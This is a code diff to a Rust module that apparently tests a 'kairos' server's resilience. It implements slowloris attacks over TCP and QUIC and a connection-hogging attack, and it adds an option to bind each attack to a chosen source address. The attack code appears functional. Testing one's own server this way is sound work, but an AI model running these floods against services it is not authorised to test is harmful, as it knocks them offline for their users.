@@ -11,7 +11,7 @@
 //! Each attack runs until its task is dropped or aborted (its connections are then closed) and
 //! counts what happened in [`AttackCounters`], which the caller reads while it runs.
 
-use std::net::SocketAddr;
+use std::net::{IpAddr, SocketAddr};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant};
@@ -20,7 +20,7 @@ use kairos_sdk::protocol::{Hello, Limits, Message, PROTOCOL_VERSION, read_messag
 use kairos_sdk::tls::ServerTrust;
 use kairos_sdk::transport::{TransportTuning, client_config};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::TcpStream;
+use tokio::net::{TcpSocket, TcpStream};
 use tokio::task::JoinSet;
 
 /// Time between two bytes of a slowloris connection: slow enough that a request never
@@ -91,22 +91,32 @@ Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhb
 const HTTP_PADDING: &[u8] = b"X-Padding: slow\r\n";
 
 /// Holds `slots` TCP connections to `target`, each sending an HTTP request head one byte per
-/// [`DRIBBLE`] and never finishing it; a connection the server closes is opened again.
-pub async fn slowloris_tcp(target: SocketAddr, slots: usize, counters: Arc<AttackCounters>) {
+/// [`DRIBBLE`] and never finishing it; a connection the server closes is opened again. From
+/// `source` (an address of this host) if given, else from the address the system picks.
+pub async fn slowloris_tcp(
+    target: SocketAddr,
+    slots: usize,
+    counters: Arc<AttackCounters>,
+    source: Option<IpAddr>,
+) {
     let mut set = JoinSet::new();
     for _ in 0..slots {
         let counters = counters.clone();
         set.spawn(async move {
             loop {
-                let stream =
-                    match tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(target)).await {
-                        Ok(Ok(stream)) => stream,
-                        Ok(Err(_)) | Err(_) => {
-                            AttackCounters::add(&counters.failed);
-                            tokio::time::sleep(RETRY_AFTER_FAILURE).await;
-                            continue;
-                        }
-                    };
+                let stream = match tokio::time::timeout(
+                    CONNECT_TIMEOUT,
+                    tcp_connect(target, source),
+                )
+                .await
+                {
+                    Ok(Ok(stream)) => stream,
+                    Ok(Err(_)) | Err(_) => {
+                        AttackCounters::add(&counters.failed);
+                        tokio::time::sleep(RETRY_AFTER_FAILURE).await;
+                        continue;
+                    }
+                };
                 AttackCounters::add(&counters.opened);
                 counters.held.fetch_add(1, Ordering::Relaxed);
                 let since = Instant::now();
@@ -116,6 +126,20 @@ pub async fn slowloris_tcp(target: SocketAddr, slots: usize, counters: Arc<Attac
         });
     }
     while set.join_next().await.is_some() {}
+}
+
+/// A TCP connection to `target`, from `source` if given.
+async fn tcp_connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
+    let Some(source) = source else {
+        return TcpStream::connect(target).await;
+    };
+    let socket = if source.is_ipv4() {
+        TcpSocket::new_v4()?
+    } else {
+        TcpSocket::new_v6()?
+    };
+    socket.bind(SocketAddr::new(source, 0))?;
+    socket.connect(target).await
 }
 
 /// Dribbles the head into `stream` until the server closes it (end of stream, a reset, or a
@@ -153,10 +177,11 @@ pub async fn slowloris_quic(
     trust: ServerTrust,
     slots: usize,
     counters: Arc<AttackCounters>,
+    source: Option<IpAddr>,
 ) -> anyhow::Result<()> {
     let config = client_config(&trust, &TransportTuning::default())?;
     // One socket for every slot, as one attacking host would have.
-    let mut endpoint = quinn::Endpoint::client(unspecified(addr))?;
+    let mut endpoint = quinn::Endpoint::client(local_address(addr, source))?;
     endpoint.set_default_client_config(config);
     let hello = Message::Hello(Hello {
         protocol: PROTOCOL_VERSION,
@@ -230,10 +255,11 @@ pub async fn connection_hog(
     trust: ServerTrust,
     token: String,
     counters: Arc<AttackCounters>,
+    source: Option<IpAddr>,
 ) -> anyhow::Result<()> {
     let config = client_config(&trust, &TransportTuning::default())?;
     // One socket for every connection, as one robot process would have.
-    let mut endpoint = quinn::Endpoint::client(unspecified(addr))?;
+    let mut endpoint = quinn::Endpoint::client(local_address(addr, source))?;
     endpoint.set_default_client_config(config);
     let hello = Message::Hello(Hello {
         protocol: PROTOCOL_VERSION,
@@ -312,8 +338,12 @@ async fn authenticate(
     }
 }
 
-/// The unspecified address of `addr`'s family, port 0: where a client socket binds.
-fn unspecified(addr: SocketAddr) -> SocketAddr {
+/// Where a client socket towards `addr` binds: `source` if given, else the unspecified address
+/// of `addr`'s family; port 0.
+fn local_address(addr: SocketAddr, source: Option<IpAddr>) -> SocketAddr {
+    if let Some(source) = source {
+        return SocketAddr::new(source, 0);
+    }
     match addr {
         SocketAddr::V4(_) => SocketAddr::from(([0, 0, 0, 0], 0)),
         SocketAddr::V6(_) => SocketAddr::from(([0u16; 8], 0)),
